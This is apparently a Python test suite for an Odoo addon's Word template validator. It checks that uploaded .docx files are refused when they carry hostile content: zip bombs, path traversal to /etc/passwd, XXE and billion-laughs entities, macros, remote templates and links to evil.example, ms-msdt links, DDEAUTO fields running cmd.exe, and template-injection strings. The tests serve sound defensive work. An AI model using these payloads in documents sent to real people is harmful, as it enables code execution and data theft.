"""Word files that would run, load or unpack what they must not: each refused."""

import base64
import io
import re
import struct
import zipfile

from odoo.exceptions import ValidationError
from odoo.tests import BaseCase, tagged

from odoo.addons.fao_core.engine import docx, docx_package

from .document_common import DocumentCase, make_docx, with_parts

VOCABULARY = {"office": {"name": None}, "record": {"days": None}}
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="rId99" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/{kind}" Target="{target}"{mode}/>'
    "</Relationships>"
)
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def repacked(content, change):
    """Return the archive with its bytes changed by ``change``."""
    return bytes(change(bytearray(content)))


@tagged("post_install", "-at_install")
class TestUnsafePackage(BaseCase):
    def setUp(self):
        super().setUp()
        self.good = make_docx("{{ office.name }}")

    def problems(self, content):
        found = docx.check(content, VOCABULARY)
        with self.assertRaises(docx.DocxError):
            docx.render(content, {"office": {"name": "x"}})
        return [(p.kind, p.detail) for p in found]

    def part(self, name):
        with zipfile.ZipFile(io.BytesIO(self.good)) as archive:
            return archive.read(name).decode()

    def relation(self, kind, target, external=True, of="settings"):
        mode = ' TargetMode="External"' if external else ""
        text = RELATIONS.format(kind=kind, target=target, mode=mode)
        return with_parts(self.good, {f"word/_rels/{of}.xml.rels": text})

    # ---- Damaged

    def test_other_files_are_refused(self):
        archive = io.BytesIO()
        with zipfile.ZipFile(archive, "w") as file:
            file.writestr("a.txt", "x")
        compound = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)
        for content in (b"", b"%PDF-1.7", archive.getvalue(), compound):
            self.assertEqual(self.problems(content), [("broken", "")])

    def test_damaged_files_are_refused(self):
        size = len(self.good)
        self.assertEqual(self.problems(self.good[: size // 2]), [("broken", "")])
        name = b"word/document.xml"
        start = self.good.index(name) + len(name) + 20

        def scramble(data):
            data[start : start + 40] = bytes(40)
            return data

        self.assertEqual(
            self.problems(repacked(self.good, scramble)),
            [("broken", "word/document.xml")],
        )
        cut = with_parts(self.good, {"word/document.xml": "<w:document><w:p>"})
        self.assertEqual(self.problems(cut), [("broken", "word/document.xml")])
        empty = with_parts(self.good, {"word/document.xml": f"<w:document {W}/>"})
        self.assertEqual(self.problems(empty), [("broken", "")])

    def test_encrypted_parts_are_refused(self):
        def lock(data):
            central = data.rindex(b"PK\x01\x02")
            flags = struct.unpack_from("<H", data, central + 8)[0]
            struct.pack_into("<H", data, central + 8, flags | 1)
            return data

        self.assertEqual({k for k, _d in self.problems(repacked(self.good, lock))},
                         {"broken"})  # fmt: skip

    def test_two_parts_of_one_name_are_refused(self):
        output = io.BytesIO(self.good)
        with zipfile.ZipFile(output, "a") as archive, self.assertWarns(UserWarning):
            archive.writestr("word/document.xml", "<x/>")
        self.assertEqual(
            self.problems(output.getvalue()), [("broken", "word/document.xml")]
        )
        twice = with_parts(self.good, {"Word/Document.xml": "<x/>"})
        self.assertEqual(self.problems(twice)[0][0], "broken")

    def test_parts_outside_the_package_are_refused(self):
        for name in ("../../etc/passwd", "word\\..\\x.xml"):
            found = self.problems(with_parts(self.good, {name: "x"}))
            self.assertEqual(found[0][0], "broken")

    # ---- Bombs

    def test_bombs_are_refused_by_their_size_and_by_their_ratio(self):
        size = docx_package.MAX_UNPACKED + 1
        bomb = with_parts(self.good, {"word/media/a.png": bytes(size)})
        self.assertLess(len(bomb), docx_package.MEGABYTE)
        self.assertEqual(self.problems(bomb), [("bomb", "50 MB")])
        ratio = with_parts(self.good, {"word/media/a.png": bytes(20 * 1024 * 1024)})
        [(kind, detail)] = self.problems(ratio)
        self.assertEqual(kind, "bomb")
        self.assertTrue(re.fullmatch(r"\d{3} : 1", detail), detail)

    def test_a_bomb_that_lies_about_its_size_is_damaged(self):
        bomb = with_parts(self.good, {"word/zz.xml": b"<a>" + bytes(2**20) + b"</a>"})

        def lie(data):
            for mark, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
                at = data.rindex(mark)
                struct.pack_into("<I", data, at + offset, 100)
            return data

        found = self.problems(repacked(bomb, lie))
        self.assertEqual(found, [("broken", "word/zz.xml")])

    def test_many_parts_and_large_files_are_refused(self):
        many = with_parts(self.good, {f"word/{n}.png": b"x" for n in range(600)})
        self.assertEqual(self.problems(many)[0][0], "bomb")
        self.assertEqual(
            self.problems(bytes(docx_package.MAX_PACKED + 1)), [("too_big", "10")]
        )

    # ---- Entities

    def test_entities_are_refused_and_not_expanded(self):
        laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
        dtd = f'<!DOCTYPE x [<!ENTITY l0 "lol">{laughs}]>'
        outside = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
        text = self.part("word/document.xml")
        for prolog, name in ((dtd, "&l9;"), (outside, "&f;"), ("<!DOCTYPE x>", "")):
            head, _mark, body = text.partition("?>")
            body = body.replace("{{ office.name }}", name)
            for data in (
                f"{head}?>{prolog}{body}".encode(),
                f"{head}?>{prolog}{body}".replace("UTF-8", "UTF-16").encode("utf-16"),
            ):
                with self.subTest(prolog=prolog, data=data[:40]):
                    content = with_parts(self.good, {"word/document.xml": data})
                    found = self.problems(content)
                    self.assertEqual(found, [("entities", "word/document.xml")])

    def test_entities_in_another_encoding_are_refused(self):
        text = self.part("word/document.xml")
        text = text.replace("UTF-8", "UTF-7")
        text = text.replace("?>", "?>+ADwAIQ-DOCTYPE x+AD4-", 1)
        found = self.problems(with_parts(self.good, {"word/document.xml": text}))
        self.assertIn(found[0][0], ("entities", "broken"))

    def test_entities_in_other_parts_are_refused(self):
        for name in ("word/_rels/document.xml.rels", "docProps/core.xml"):
            text = self.part(name)
            text = text.replace("?>", '?><!DOCTYPE x [<!ENTITY a "b">]>', 1)
            found = self.problems(with_parts(self.good, {name: text}))
            self.assertEqual(found, [("entities", name)])

    # ---- What Word would run or load

    def test_macros_are_refused(self):
        for name in ("word/vbaProject.bin", "word/vbaData.xml"):
            found = self.problems(with_parts(self.good, {name: b"<x/>"}))
            self.assertEqual(found, [("macro", name)])
        types = self.part("[Content_Types].xml")
        macro = types.replace(
            "application/vnd.openxmlformats-officedocument.wordprocessingml."
            "document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
        )
        found = self.problems(with_parts(self.good, {"[Content_Types].xml": macro}))
        self.assertEqual(found, [("macro", "word/document.xml")])

    def test_word_templates_are_refused(self):
        types = self.part("[Content_Types].xml")
        other = types.replace("document.main+xml", "template.main+xml")
        found = self.problems(with_parts(self.good, {"[Content_Types].xml": other}))
        self.assertEqual(found, [("kind", "template.main+xml")])

    def test_embedded_objects_are_refused(self):
        for name in (
            "word/embeddings/oleObject1.bin",
            "word/embeddings/Sheet1.xlsx",
            "word/activeX/activeX1.xml",
            "word/afchunk.html",
            "word/afchunk1.mht",
        ):
            with self.subTest(name=name):
                found = self.problems(with_parts(self.good, {name: b"<x/>"}))
                self.assertEqual(found, [("embedded", name)])

    def test_relations_to_embedded_files_are_refused(self):
        for kind in ("aFChunk", "oleObject", "package", "control", "subDocument"):
            with self.subTest(kind=kind):
                content = self.relation(kind, "media/image1.png", external=False)
                self.assertEqual(
                    self.problems(content), [("embedded", "media/image1.png")]
                )

    def test_links_to_elsewhere_are_refused(self):
        for kind, target in (
            ("attachedTemplate", "http://evil.example/t.dotm"),
            ("attachedTemplate", "file:///C:/t.dotm"),
            ("image", "http://evil.example/pixel.png"),
            ("oleObject", "http://evil.example/x"),
            ("frame", "http://evil.example/x"),
            ("hyperlink", "file://server/share"),
            ("hyperlink", "javascript:alert(1)"),
            ("hyperlink", "ms-msdt:/id"),
        ):
            with self.subTest(kind=kind, target=target):
                content = self.relation(kind, target)
                self.assertEqual(self.problems(content), [("external", target)])
        content = self.relation("image", "http://evil.example/x", external=False)
        self.assertEqual(self.problems(content)[0][0], "external")
        content = self.relation("image", "\\\\server\\x.png", external=False)
        self.assertEqual(self.problems(content)[0][0], "external")

    def test_links_that_a_person_clicks_may_stay(self):
        for target in ("https://example.org", "mailto:office@example.org"):
            content = self.relation("hyperlink", target)
            self.assertFalse(docx.check(content, VOCABULARY))

    def field(self, *runs):
        """Return a file with a Word field whose code is split over these runs."""
        code = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
        marks = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
        field = marks.format("begin") + code + marks.format("end")
        text = self.part("word/document.xml")
        text = text.replace("</w:p>", f"{field}</w:p>", 1)
        return with_parts(self.good, {"word/document.xml": text})

    def test_fields_that_load_or_run_are_refused(self):
        for runs, word in (
            (("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe",), "DDEAUTO"),
            ((" DD", "E excel"), "DDE"),
            (("INCLUDETEXT http://evil.example/x",), "INCLUDETEXT"),
            (("INCLUDE", "PICTURE http://evil.example/x"), "INCLUDEPICTURE"),
            (("LINK Excel.Sheet",), "LINK"),
            (("MACROBUTTON run x",), "MACROBUTTON"),
            (("IMPORT x",), "IMPORT"),
            (("DATABASE x",), "DATABASE"),
            (("QUOTE 68 68 69",), "QUOTE"),
            (("",), "{ }"),
        ):
            with self.subTest(runs=runs):
                content = self.field(*runs)
                self.assertEqual(self.problems(content), [("field", word)])
        self.assertFalse(docx.check(self.field(" PA", "GE "), VOCABULARY))

    def test_simple_fields_and_open_ones_are_read_too(self):
        text = self.part("word/document.xml")
        simple = '<w:fldSimple w:instr="DDE excel"/></w:p>'
        begin = (
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            "<w:r><w:instrText>DDE x</w:instrText></w:r></w:p>"
        )
        loose = "<w:r><w:instrText>DDE x</w:instrText></w:r></w:p>"
        for field in (simple, begin, loose):
            data = text.replace("</w:p>", field, 1)
            found = self.problems(with_parts(self.good, {"word/document.xml": data}))
            self.assertEqual(found, [("field", "DDE")])

    def test_placeholders_that_would_stay_are_refused(self):
        part = f"<w:comments {W}><w:t>{{{{ record.days }}}}</w:t></w:comments>"
        content = with_parts(self.good, {"word/comments.xml": part})
        self.assertEqual(self.problems(content), [("misplaced", "word/comments.xml")])
        core = self.part("docProps/core.xml")
        core = core.replace("<dc:title/>", "<dc:title>{{ x.__class__ }}</dc:title>")
        found = self.problems(with_parts(self.good, {"docProps/core.xml": core}))
        self.assertEqual(found, [("misplaced", "docProps/core.xml")])


@tagged("post_install", "-at_install")
class TestUnsafeUpload(DocumentCase):
    """What the manager reads when he uploads such a file; nothing is kept."""

    def refusal(self, content):
        before = self.template.file
        with self.assertRaises(ValidationError) as caught, self.env.cr.savepoint():
            template = self.template.with_user(self.manager)
            template.file = base64.b64encode(content)
            template.flush_recordset()
        self.env.invalidate_all()
        self.assertEqual(self.template.file, before)
        return str(caught.exception)

    def test_the_message_names_the_line(self):
        text = self.refusal(
            make_docx("Dear all", "{{ ''.__class__ }}", "{% set a=1 %}")
        )
        self.assertIn("Template Letter is refused:", text)
        self.assertIn("Paragraph 2: __class__ is not allowed in a template.", text)
        self.assertIn("Paragraph 3: {% set a=1 %} is not allowed in a template.", text)

    def test_each_kind_of_file_is_explained(self):
        good = make_docx("Text")
        relation = RELATIONS.format(
            kind="attachedTemplate",
            target="http://x/t.dotm",
            mode=' TargetMode="External"',
        )
        bomb = bytes(docx_package.MAX_UNPACKED + 1)
        for content, sentence in (
            (b"no file of Word", "The file is no Word document (.docx)."),
            (
                with_parts(good, {"word/document.xml": "<a"}),
                "The file is damaged: word/document.xml.",
            ),
            (
                bytes(docx_package.MAX_PACKED + 1),
                "The file is larger than 10 MB.",
            ),
            (
                with_parts(good, {"word/media/a.png": bomb}),
                "The file unpacks to far more than a template holds (50 MB).",
            ),
            (
                with_parts(good, {"word/vbaProject.bin": b"x"}),
                "word/vbaProject.bin: macros are not allowed; save the file as .docx"
                " without them.",
            ),
            (
                with_parts(good, {"word/embeddings/a.xlsx": b"x"}),
                "word/embeddings/a.xlsx: embedded objects and files are not allowed.",
            ),
            (
                with_parts(good, {"word/_rels/settings.xml.rels": relation}),
                "http://x/t.dotm: Word would load this from elsewhere; it is not"
                " allowed.",
            ),
            (
                with_parts(good, {"word/footer9.xml": "<!DOCTYPE x><x/>"}),
                "word/footer9.xml: XML entities are not allowed.",
            ),
            (
                with_parts(
                    good,
                    {
                        "word/endnotes.xml": f"<w:x {W}><w:p><w:fldSimple"
                        ' w:instr="DDE a"/></w:p></w:x>'
                    },
                ),
                "endnotes, line 1: The Word field DDE is not allowed.",
            ),
        ):
            with self.subTest(sentence=sentence):
                self.assertIn(sentence, self.refusal(content))
